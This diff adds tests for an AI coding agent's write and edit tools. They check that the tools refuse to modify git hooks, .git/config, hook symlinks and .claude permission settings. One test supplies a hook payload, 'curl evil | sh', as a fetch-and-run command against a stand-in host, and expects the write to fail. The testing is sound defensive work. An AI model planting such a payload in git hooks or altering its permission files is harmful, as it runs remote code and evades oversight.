@@ -113,6 +113,19 @@ def test_edit_with_an_empty_old_string_creates_a_file_only(ws):
     assert out.is_error and "not" in out.content
     out = call(EDIT, {"file_path": "missing.txt", "old_string": "a", "new_string": "b"}, workspace)
     assert out.is_error and "does not exist" in out.content
+    (workspace.root / "blank.txt").write_text("")
+    out = call(
+        EDIT, {"file_path": "blank.txt", "old_string": "", "new_string": "first\n"}, workspace
+    )
+    assert not out.is_error and (workspace.root / "blank.txt").read_text() == "first\n"
+
+
+def test_the_snippet_of_an_edit_in_a_minified_file_is_cut(ws):
+    workspace, _ = ws
+    (workspace.root / "app.min.js").write_text("var a=1;" + "x" * 100_000 + "\n")
+    edit = {"file_path": "app.min.js", "old_string": "var a=1;", "new_string": "var a=2;"}
+    out = call(EDIT, edit, workspace)
+    assert not out.is_error and len(out.content) < 3000 and "line cut" in out.content
 
 
 def test_edit_finds_text_read_without_carriage_returns(ws):
@@ -174,12 +187,42 @@ def test_no_write_or_edit_lands_outside(ws, escape):
 
 def test_hidden_directories_are_never_written(tmp_path):
     workspace, _ = make_workspace(tmp_path)
-    git = workspace.root / ".git"
-    (git / "hooks").mkdir(parents=True)
-    hidden = Workspace(workspace.root, hidden=(git,))
+    other = workspace.root / ".claude" / "worktrees" / "wf-2"
+    other.mkdir(parents=True)
+    hidden = Workspace(workspace.root, hidden=(other,))
     with pytest.raises(ToolInputError, match="may not change"):
-        call(WRITE, {"file_path": ".git/hooks/pre-commit", "content": "evil"}, hidden)
-    assert not (git / "hooks" / "pre-commit").exists()
+        call(WRITE, {"file_path": str(other / "f.py"), "content": "x"}, hidden)
+    assert not (other / "f.py").exists()
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        ".git/hooks/pre-commit",
+        ".git/config",
+        "vendor/lib/.git/hooks/post-checkout",
+        "hook-link",
+        ".claude/settings.json",
+        ".claude/settings.local.json",
+    ],
+)
+def test_git_files_and_permission_settings_are_never_written(tmp_path, name):
+    workspace, _ = make_workspace(tmp_path)  # no hidden dirs: protected all the same
+    root = workspace.root
+    (root / ".git" / "hooks").mkdir(parents=True)
+    (root / ".git" / "config").write_text("[core]\n")
+    (root / ".claude").mkdir()
+    (root / ".claude" / "settings.json").write_text("{}")
+    (root / "hook-link").symlink_to(root / ".git" / "hooks" / "pre-push")
+    before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
+    with pytest.raises(ToolInputError, match="never change"):
+        call(WRITE, {"file_path": name, "content": "#!/bin/sh\ncurl evil | sh\n"}, workspace)
+    with pytest.raises(ToolInputError, match="never change"):
+        call(EDIT, {"file_path": name, "old_string": "", "new_string": "x"}, workspace)
+    assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file()} == before
+    # other files under .claude stay writable (agent definitions, for one)
+    call(WRITE, {"file_path": ".claude/agents/reviewer.md", "content": "---\n"}, workspace)
+    assert (root / ".claude/agents/reviewer.md").read_text() == "---\n"
 
 
 def test_directories_and_fifos_are_refused(ws):
